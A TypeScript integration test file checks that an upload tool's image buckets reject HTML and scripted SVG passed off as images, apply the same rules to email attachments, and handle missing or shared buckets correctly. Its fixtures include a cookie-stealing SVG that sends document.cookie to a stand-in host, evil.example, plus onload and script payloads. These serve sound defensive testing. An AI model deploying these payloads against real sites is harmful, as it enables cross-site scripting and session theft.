/**
 * Bucket rules at the door: upload_file over Streamable HTTP (a member's API key), the filesystem
 * backend, real Postgres and Temporal. The audit's findings, each as the user met it:
 * - HTML declared image/png and an SVG with onload/<script> were stored in an `image/*` bucket;
 * - the same bytes and name uploaded to two buckets failed after ten retries with `duplicate key`;
 * - the filesystem backend created any bucket a caller named.
 */
import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { setBucketRules } from '../../supabase/files.js';
import { createFilesystemBackend } from '../../supabase/storage/filesystem.js';
import { uniqueName } from '../support/harness.js';
import { useHttpStack } from '../support/http-stack.js';
import { callError, callOk, ingestToEnd } from '../support/mcp-clients.js';

const b64 = (text: string) => Buffer.from(text).toString('base64');
/** An SVG that runs script when opened; with an XML prolog (file-type says application/xml) or without
 * (file-type says nothing: the audit's bypass, checked against the declared type). */
const SCRIPTED_SVG = (id: string, prolog = true) =>
  `${prolog ? '<?xml version="1.0" encoding="UTF-8"?>\n' : ''}` +
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${id}')">` +
  '<script>fetch("https://evil.example/"+document.cookie)</script></svg>';

interface Uploaded {
  status: string;
  fileId: string;
  path: string;
  detectedMime: string | null;
  mimeMismatch: boolean;
}

describe('bucket rules that hold, at the door', () => {
  const t = useHttpStack();
  const tenant = () => t.stack.defaultTenant.id;
  const storageRoot = () => {
    if (t.stack.config.storage.kind !== 'filesystem')
      throw new Error('the test stack uses filesystem storage');
    return t.stack.config.storage.root;
  };
  const fileRows = (bucket: string) =>
    t.stack.sql<{ status: string; error: string | null; detected_mime: string | null }[]>`
      select status, error, detected_mime from public.files where tenant_id = ${tenant()} and bucket = ${bucket}
      order by created_at`;

  it('HTML declared image/png is refused by an image/* bucket, naming what it is and what the rule allows', async () => {
    await setBucketRules(t.stack.sql, tenant(), 'images', {
      sizeLimitBytes: null,
      allowedMimeTypes: ['image/*'],
    });
    const expected =
      'InvalidMimeType: bucket "images" allows image/*, and this file is text/html by its content ' +
      '(declared image/png); active content passes only a rule that names its type exactly';
    expect(
      await callError(t.mcp, 'upload_file', {
        bucket: 'images',
        filename: 'pixel.png',
        contentType: 'image/png',
        content: b64(`<!DOCTYPE html><html><body><script>alert("${uniqueName('x')}")</script></body></html>`),
      }),
    ).toBe(expected);
    // Plain text claiming to be an image is not one either.
    expect(
      await callError(t.mcp, 'upload_file', {
        bucket: 'images',
        filename: 'notes.png',
        contentType: 'image/png',
        content: b64(`just words ${uniqueName('w')}`),
      }),
    ).toBe(
      'InvalidMimeType: bucket "images" allows image/*, and this file is text/plain by its content (declared image/png)',
    );
    expect((await fileRows('images')).map((r) => [r.status, r.detected_mime])).toEqual([
      ['failed', 'text/html'],
      ['failed', 'text/plain'],
    ]);
    expect((await fileRows('images'))[0]!.error).toBe(expected);
    expect(await readdir(path.join(storageRoot(), 'images'))).toEqual([]);
  });

  it('an SVG with onload and <script> is refused by image/*, declared or not', async () => {
    for (const [contentType, prolog] of [
      ['image/svg+xml', false],
      ['image/svg+xml', true],
      ['image/png', false],
      [undefined, true],
    ] as const) {
      expect(
        await callError(t.mcp, 'upload_file', {
          bucket: 'images',
          filename: 'logo.svg',
          content: b64(SCRIPTED_SVG(uniqueName('svg'), prolog)),
          ...(contentType && { contentType }),
        }),
      ).toBe(
        'InvalidMimeType: bucket "images" allows image/*, and this file is image/svg+xml by its content' +
          `${contentType && contentType !== 'image/svg+xml' ? ` (declared ${contentType})` : ''}; ` +
          'active content passes only a rule that names its type exactly',
      );
    }
  });

  it('email attachments meet the same rules: an HTML "image" fails, the email and the real image stay', async () => {
    await setBucketRules(t.stack.sql, tenant(), 'attachments', {
      sizeLimitBytes: null,
      allowedMimeTypes: ['image/*'],
    });
    try {
      const id = uniqueName('att');
      const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
      const part = (name: string, type: string, body: Buffer) =>
        `--mix\r\nContent-Type: ${type}; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n` +
        `Content-Disposition: attachment; filename="${name}"\r\n\r\n${body.toString('base64')}\r\n`;
      const raw =
        `From: a@example.com\r\nTo: b@example.com\r\nSubject: pictures ${id}\r\nMessage-ID: <${id}@example.com>\r\n` +
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="mix"\r\n\r\n' +
        '--mix\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n' +
        part('photo.png', 'image/png', Buffer.from(`<html><body onload="steal()">${id}</body></html>`)) +
        part('real.png', 'image/png', png) +
        '--mix--\r\n';
      const out = await ingestToEnd<{
        emailId: string;
        attachments: { filename: string; status: string; error?: string }[];
      }>(t.mcp, { raw });
      expect(out.emailId).toBeTruthy();
      expect(out.attachments).toEqual([
        {
          partIndex: 0,
          filename: 'photo.png',
          status: 'failed',
          error:
            'InvalidMimeType: bucket "attachments" allows image/*, and this file is text/html by its content ' +
            '(declared image/png); active content passes only a rule that names its type exactly',
        },
        expect.objectContaining({ partIndex: 1, filename: 'real.png', status: 'stored' }),
      ]);
    } finally {
      await setBucketRules(t.stack.sql, tenant(), 'attachments', {
        sizeLimitBytes: null,
        allowedMimeTypes: null,
      });
    }
  });

  it('a bucket naming image/svg+xml takes the SVG, stored to be downloaded: octet-stream, attachment', async () => {
    await setBucketRules(t.stack.sql, tenant(), 'vectors', {
      sizeLimitBytes: null,
      allowedMimeTypes: ['image/png', 'image/svg+xml'],
    });
    const svg = SCRIPTED_SVG(uniqueName('ok'));
    const out = await callOk<Uploaded>(t.mcp, 'upload_file', {
      bucket: 'vectors',
      filename: 'logo.svg',
      contentType: 'image/svg+xml',
      content: b64(svg),
    });
    expect(out).toMatchObject({ status: 'completed', detectedMime: 'image/svg+xml', mimeMismatch: false });
    const backend = createFilesystemBackend({ root: storageRoot() });
    expect(await backend.headObject('vectors', out.path)).toEqual({
      size: Buffer.byteLength(svg),
      contentType: 'application/octet-stream',
      contentDisposition: 'attachment; filename="logo.svg"',
    });
    expect(await readFile(path.join(storageRoot(), 'vectors', out.path), 'utf8')).toBe(svg);
  });

  it('a bucket nobody created is NoSuchBucket, and the upload creates nothing', async () => {
    expect(
      await callError(t.mcp, 'upload_file', {
        bucket: 'typo-bucket',
        filename: 'a.txt',
        content: b64('hello'),
      }),
    ).toBe('NoSuchBucket: bucket "typo-bucket" does not exist');
    expect(await readdir(storageRoot())).not.toContain('typo-bucket');
    expect((await fileRows('typo-bucket')).map((r) => [r.status, r.error])).toEqual([
      ['failed', 'NoSuchBucket: bucket "typo-bucket" does not exist'],
    ]);
  });

  it('the same bytes and name go into two buckets, each its own object under the same key', async () => {
    const content = b64(`shared bytes ${uniqueName('same')}`);
    const sha256 = createHash('sha256').update(Buffer.from(content, 'base64')).digest('hex');
    const first = await callOk<Uploaded>(t.mcp, 'upload_file', {
      bucket: 'buckets-a',
      filename: 'same.txt',
      content,
    });
    const second = await callOk<Uploaded>(t.mcp, 'upload_file', {
      bucket: 'buckets-b',
      filename: 'same.txt',
      content,
    });
    expect([first.status, second.status]).toEqual(['completed', 'completed']);
    expect(second.fileId).not.toBe(first.fileId);
    expect(second.path).toBe(first.path);
    expect(first.path).toBe(`${tenant()}/${sha256.slice(0, 2)}/${sha256}/same.txt`);
    for (const bucket of ['buckets-a', 'buckets-b']) {
      const stored = await readFile(path.join(storageRoot(), bucket, first.path));
      expect(createHash('sha256').update(stored).digest('hex')).toBe(sha256);
      expect((await fileRows(bucket)).map((r) => r.status)).toEqual(['uploaded']);
    }
  });
});
